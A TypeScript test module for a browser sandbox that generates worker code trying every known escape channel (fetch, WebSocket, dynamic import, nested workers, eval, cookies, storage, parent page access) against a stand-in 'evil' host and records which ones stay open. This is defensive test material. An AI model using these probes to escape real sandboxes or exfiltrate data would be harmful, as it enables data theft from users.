/** Every way out of a worker that a browser knows, as code that tries them: for the sandbox's tests, and in other browsers. */

/** Worker code that tries every way out that a browser knows, and gives the outcomes by name. */
export const attempts = (evil: string, own: string): string => `
const evil = ${JSON.stringify(evil)}, own = ${JSON.stringify(own)};
const settled = (target, good, bad) => new Promise((resolve, reject) => {
  target[good] = () => resolve();
  target[bad] = () => reject(new Error('failed'));
});
const attempts = {
  fetch: () => fetch(evil + '/fetch'),
  'fetch without cors': () => fetch(evil + '/fetch-no-cors', { mode: 'no-cors' }),
  'fetch kept alive': () => fetch(evil + '/fetch-keepalive', { keepalive: true, mode: 'no-cors' }),
  'fetch of the site': () => fetch(own + '/library.json'),
  XMLHttpRequest: () => { const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr'); x.send(); return settled(x, 'onload', 'onerror'); },
  WebSocket: () => { const s = new WebSocket(evil.replace('http', 'ws') + '/socket'); return settled(s, 'onopen', 'onerror'); },
  EventSource: () => { const s = new EventSource(evil + '/events'); return settled(s, 'onopen', 'onerror'); },
  WebTransport: () => new WebTransport(evil.replace('http', 'https') + '/transport').ready,
  import: () => import(evil + '/import.js'),
  'import of data': () => { const address = 'data:text/javascript,export const a = 1'; return import(address); },
  importScripts: () => importScripts(evil + '/scripts.js'),
  'a worker from outside': () => { const w = new Worker(evil + '/worker.js'); return settled(w, 'onmessage', 'onerror'); },
  'a worker inside': () => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + evil + '/nested").then(() => postMessage(1), () => { throw 1; })']))); return new Promise((resolve, reject) => { w.onmessage = resolve; w.onerror = reject; }); },
  eval: () => eval('1'),
  Function: () => new Function('return 1')(),
  localStorage: () => localStorage.length,
  cookies: () => { if (!document.cookie.length) throw new Error('none'); },
  cookieStore: () => cookieStore.getAll(),
  indexedDB: () => settled(indexedDB.open('leak'), 'onsuccess', 'onerror'),
  caches: () => caches.open('leak'),
  files: () => navigator.storage.getDirectory(),
  'the page': () => parent.document.title,
  BroadcastChannel: () => { new BroadcastChannel('leak').postMessage('leak'); throw new Error('unknown'); },
};
const outcomes = {};
await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
  const late = new Promise((_, reject) => setTimeout(() => reject(new Error('timeout')), 1000));
  try { await Promise.race([late, attempt()]); outcomes[name] = 'open'; } catch (error) { outcomes[name] = 'shut'; }
}));
`;

/** A worker in the place of the runtime, with all of the browser at hand: only the policy holds it. */
export const probeRuntime = (evil: string, own: string): string =>
  `let calls = 0; onmessage = async () => { if (++calls === 1) { postMessage('ready'); return; }
postMessage('started'); ${attempts(evil, own)}; postMessage({ type: 'done', results: outcomes, claims: [], ms: 0 }); };`;

/** The same from a program, which finds next to nothing to try it with. */
export const probeProgram = (evil: string, own: string): string => `${attempts(evil, own)}
export const open = Object.keys(outcomes).filter((name) => outcomes[name] === 'open');
const owners = [];
for (let holder = globalThis; holder !== null; holder = Object.getPrototypeOf(holder)) owners.push(holder);
export const left = owners.slice(0, -1).flatMap((holder) => Object.getOwnPropertyNames(holder)).sort();
export const reachable = ['postMessage', 'close', 'addEventListener', 'dispatchEvent', 'onmessage', 'constructor', 'fetch', 'Worker', 'navigator', 'location', 'URL', 'Blob'].filter((name) => globalThis[name] !== undefined && globalThis[name] !== Object);`;

/** Without frame and policy these succeed in every browser, and reach these paths of the host outside. */
export const openInControl = [
  'fetch',
  'fetch of the site',
  'XMLHttpRequest',
  'import',
  'import of data',
  'eval',
  'indexedDB',
];
export const hitsInControl = [
  '/fetch',
  '/fetch-no-cors',
  '/xhr',
  '/socket',
  '/events',
  '/import.js',
  '/scripts.js',
  '/nested',
];
